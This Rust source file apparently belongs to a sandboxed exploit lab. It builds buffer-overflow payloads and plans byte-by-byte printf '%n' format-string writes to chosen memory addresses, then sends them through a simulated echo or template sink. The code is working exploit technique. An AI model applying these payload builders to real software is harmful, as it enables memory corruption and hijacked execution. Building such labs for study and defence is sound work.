use serde::Serialize;

use super::ExploitError;
use crate::linmem::{DEFAULT_PAGES, PAGE_SIZE};
use crate::host::{Scenario, Vector};
use crate::scenarios::{ScenarioError, ScenarioState, REQUEST_CAP};

/// Bytes past the end of a planned write that the last `%n` clobbers.
pub const SCRATCH_BYTES: u32 = 3;

/// `'A' * fill_len`, then `inject`, then a NUL.
pub fn build_bof_payload(fill_len: u32, inject: &[u8]) -> Result<Vec<u8>, ExploitError> {
    let total = fill_len as usize + inject.len();
    if total > REQUEST_CAP {
        return Err(ExploitError::Size(format!("{total} payload bytes exceed the {REQUEST_CAP}-byte cap")));
    }
    let mut out = vec![b'A'; fill_len as usize];
    out.extend_from_slice(inject);
    out.push(0);
    Ok(out)
}

/// One `printf` request: literal padding, `%n`, and the varargs.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct FormatRequest {
    pub format: Vec<u8>,
    pub args: [u32; 2],
}

impl FormatRequest {
    /// Address the `%n` writes to.
    pub fn target(&self) -> u32 {
        self.args[0]
    }

    pub fn padding(&self) -> usize {
        self.format.len() - 2
    }
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct FormatWritePlan {
    pub target_addr: u32,
    pub target_bytes: Vec<u8>,
    /// In ascending target order; each one repairs the three bytes its
    /// predecessor zeroed.
    pub requests: Vec<FormatRequest>,
}

impl FormatWritePlan {
    /// Intended payload bytes landed per request.
    pub fn bytes_per_request(&self) -> f64 {
        if self.requests.is_empty() {
            0.0
        } else {
            self.target_bytes.len() as f64 / self.requests.len() as f64
        }
    }

    /// Span the plan may modify, scratch included.
    pub fn clobber_end(&self) -> u32 {
        self.target_addr + self.target_bytes.len() as u32 + SCRATCH_BYTES
    }
}

/// Plans a byte-at-a-time `%n` write of `payload` at `target_addr`.
pub fn plan_format_write(target_addr: u32, payload: &[u8]) -> Result<FormatWritePlan, ExploitError> {
    let end = target_addr as u64 + payload.len() as u64 + SCRATCH_BYTES as u64;
    if end > (DEFAULT_PAGES * PAGE_SIZE) as u64 {
        return Err(ExploitError::Size(format!(
            "write of {} bytes at {target_addr:#x} plus scratch leaves guest memory",
            payload.len()
        )));
    }
    let requests = payload
        .iter()
        .enumerate()
        .map(|(i, &b)| {
            let mut format = vec![b'A'; b as usize];
            format.extend_from_slice(b"%n");
            if format.len() > REQUEST_CAP {
                return Err(ExploitError::Size(format!("padding of {b} exceeds the request cap")));
            }
            Ok(FormatRequest {
                format,
                args: [target_addr + i as u32, 0],
            })
        })
        .collect::<Result<_, _>>()?;
    Ok(FormatWritePlan {
        target_addr,
        target_bytes: payload.to_vec(),
        requests,
    })
}

/// Sends every request of `plan` through the instance's `printf` sink: the
/// echo route, or the greeting page for the template scenario.
pub fn execute_plan(state: &mut ScenarioState, plan: &FormatWritePlan) -> Result<(), ExploitError> {
    if state.vector() != Vector::Ufs {
        return Err(ExploitError::Unsupported(format!("the {} build has no printf sink", state.vector())));
    }
    let mut last = Ok(());
    for req in &plan.requests {
        let r = match state.scenario() {
            Scenario::Ssti => state.ssti_page(&req.format, req.args).map(drop),
            _ => state.fmt_echo(&req.format, req.args).map(drop),
        };
        match r {
            // A half-written nonce may not parse; the write itself landed.
            Err(e @ ScenarioError::Template(_)) => last = Err(e.into()),
            Err(e) => return Err(e.into()),
            Ok(()) => last = Ok(()),
        }
    }
    last
}
